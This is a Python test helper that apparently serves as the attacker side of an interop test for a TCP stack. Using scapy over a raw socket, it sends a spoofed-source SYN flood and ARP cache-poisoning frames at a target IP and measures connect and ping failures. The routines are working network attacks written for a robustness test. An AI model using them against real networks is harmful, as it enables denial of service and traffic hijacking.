#!/usr/bin/env python3
"""The attacker's side of test/interop/attack.test.ts, run inside the test's network namespace.

Frames are built with scapy (Debian: python3-scapy) and written to the TAP interface through an
AF_PACKET socket, so they reach `xs-tcp up` as if they came from the LAN; the kernel's own TCP is the
honest client whose connects (or pings) are measured meanwhile. Prints one JSON line.

  attack.py synflood IFACE BOARD_IP PORT COUNT SPOOF_PREFIX
      COUNT spoofed SYNs (sources SPOOF_PREFIX.100-254, nobody answers their ARP) as fast as the
      socket takes them, while the kernel connects to BOARD_IP:PORT every 50 ms, from 0.5 s before
      the flood until 3 s after it; reports every connect's outcome and latency.
  attack.py arppoison IFACE BOARD_IP VICTIM_IP COUNT
      COUNT unsolicited ARP replies and COUNT requests, 50 ms apart, claiming VICTIM_IP (the
      kernel's address) for a made-up MAC, while the kernel pings BOARD_IP; reports the ping loss.
Bounded in count and time; exits 0 unless something could not be set up.
"""
import json
import random
import socket
import subprocess
import sys
import threading
import time

from scapy.all import ARP, Ether, IP, TCP, raw  # noqa: E402 (python3-scapy)


def board_mac(board_ip):
    subprocess.run(['ping', '-c', '1', '-W', '2', board_ip], stdout=subprocess.DEVNULL, check=False)
    out = subprocess.run(['ip', 'neigh', 'show', board_ip], capture_output=True, text=True).stdout.split()
    if 'lladdr' not in out:
        raise SystemExit(json.dumps({'error': 'no ARP entry for ' + board_ip}))
    return out[out.index('lladdr') + 1]


def iface_mac(iface):
    with open('/sys/class/net/%s/address' % iface) as f:
        return f.read().strip()


def raw_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    return s


def synflood(iface, board_ip, port, count, prefix):
    bmac = board_mac(board_ip)
    rnd = random.Random(1)
    frames = []
    for _ in range(count):
        src = '%s.%d' % (prefix, rnd.randint(100, 254))
        mac = '02:5f:%02x:%02x:%02x:%02x' % tuple(rnd.randrange(256) for _ in range(4))
        frames.append(raw(Ether(dst=bmac, src=mac) / IP(src=src, dst=board_ip) /
                          TCP(sport=rnd.randint(1024, 65535), dport=port, flags='S', seq=rnd.getrandbits(32))))
    attempts = []
    state = {'flood_start': None, 'flood_end': None, 'stop': False}

    def client():
        while not state['stop']:
            t0 = time.monotonic()
            ok = False
            try:
                c = socket.create_connection((board_ip, port), timeout=3)
                ok = True
                c.close()
            except OSError:
                pass
            attempts.append({'start': t0, 'ms': round((time.monotonic() - t0) * 1000, 1), 'ok': ok})
            time.sleep(max(0.0, 0.05 - (time.monotonic() - t0)))

    th = threading.Thread(target=client)
    th.start()
    time.sleep(0.5)
    s = raw_socket(iface)
    state['flood_start'] = time.monotonic()
    sent = 0
    deadline = state['flood_start'] + 30
    for f in frames:
        try:
            s.send(f)
            sent += 1
        except OSError:
            time.sleep(0.001)
        if time.monotonic() > deadline:
            break
    state['flood_end'] = time.monotonic()
    time.sleep(3)
    state['stop'] = True
    th.join()
    start, end = state['flood_start'], state['flood_end']
    during = [a for a in attempts if start <= a['start'] <= end]
    after = [a for a in attempts if a['start'] > end]
    late = max([a['start'] + a['ms'] / 1000 - end for a in during if a['ok']] + [0.0])
    print(json.dumps({
        'sent': sent, 'floodSeconds': round(end - start, 3),
        'connects': len(attempts), 'ok': sum(1 for a in attempts if a['ok']),
        'duringFlood': len(during), 'duringFloodOk': sum(1 for a in during if a['ok']),
        'afterFlood': len(after), 'afterFloodOk': sum(1 for a in after if a['ok']),
        'latestDoneAfterFloodMs': round(late * 1000),
    }))


def arppoison(iface, board_ip, victim_ip, count):
    bmac = board_mac(board_ip)
    fake = '02:ba:d0:00:00:01'
    s = raw_socket(iface)
    ping = subprocess.Popen(['ping', '-c', str(count), '-i', '0.1', '-W', '1', board_ip],
                            stdout=subprocess.PIPE, text=True)
    reply = raw(Ether(dst=bmac, src=fake) / ARP(op=2, hwsrc=fake, psrc=victim_ip, hwdst=bmac, pdst=board_ip))
    request = raw(Ether(dst='ff:ff:ff:ff:ff:ff', src=fake) /
                  ARP(op=1, hwsrc=fake, psrc=victim_ip, hwdst='00:00:00:00:00:00', pdst=board_ip))
    for _ in range(count):
        s.send(reply)
        s.send(request)
        time.sleep(0.05)
    out, _ = ping.communicate(timeout=count * 0.1 + 10)
    received = 0
    for line in out.splitlines():
        if 'received' in line:
            received = int(line.split(',')[1].split()[0])
    print(json.dumps({'claims': 2 * count, 'pings': count, 'pingsAnswered': received,
                      'kernelMac': iface_mac(iface), 'fakeMac': fake}))


def main(argv):
    if len(argv) >= 6 and argv[0] == 'synflood':
        synflood(argv[1], argv[2], int(argv[3]), int(argv[4]), argv[5])
    elif len(argv) >= 5 and argv[0] == 'arppoison':
        arppoison(argv[1], argv[2], argv[3], int(argv[4]))
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv[1:]))
